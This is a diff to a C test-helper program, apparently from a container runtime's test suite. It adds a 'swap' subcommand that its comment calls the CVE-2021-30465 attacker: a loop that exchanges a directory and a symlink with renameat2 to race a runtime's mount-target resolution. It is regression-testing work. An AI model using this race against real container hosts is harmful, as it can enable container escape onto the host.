@@ -44,6 +44,7 @@
 #include <sys/utsname.h>
 #include <sys/wait.h>
 #include <termios.h>
+#include <time.h>
 #include <unistd.h>
 
 extern char **environ;
@@ -479,6 +480,25 @@ static int do_sched(void)
 	return 0;
 }
 
+/*
+ * The CVE-2021-30465 attacker: swap the names a and b (a directory and a
+ * symlink) with renameat2(RENAME_EXCHANGE) as fast as it can for secs
+ * seconds, so that a runtime resolving a mount target meets either at any
+ * moment; prints "swaps N".
+ */
+static int do_swap(const char *a, const char *b, int secs)
+{
+	time_t end = time(NULL) + secs;
+	unsigned long n = 0;
+
+	while (time(NULL) < end)
+		for (int i = 0; i < 1000; i++, n++)
+			if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0)
+				return die("renameat2");
+	printf("swaps %lu\n", n);
+	return 0;
+}
+
 /* the CPUs this process may run on, as "0 1 3" */
 static int do_affinity(void)
 {
@@ -499,6 +519,7 @@ static int usage(void)
 		"cwd|env|fds|mounts|umask|cgroup|signal-wait\n"
 		"       probe rlimit NAME|write PATH|stat PATH|sleep N|exit N|"
 		"syscall getcwd|syscall personality ARG|fork N SECS\n"
+		"       probe swap A B SECS\n"
 		"       probe tty | fd-recv SOCK | console-recv SOCK CMD\n");
 	return 2;
 }
@@ -591,5 +612,7 @@ int main(int argc, char **argv)
 		return do_syscall(arg, argc > 3 ? argv[3] : NULL);
 	if (!strcmp(cmd, "fork"))
 		return do_fork(atoi(arg), argc > 3 ? atoi(argv[3]) : 1);
+	if (!strcmp(cmd, "swap") && argc > 4)
+		return do_swap(arg, argv[3], atoi(argv[4]));
 	return usage();
 }
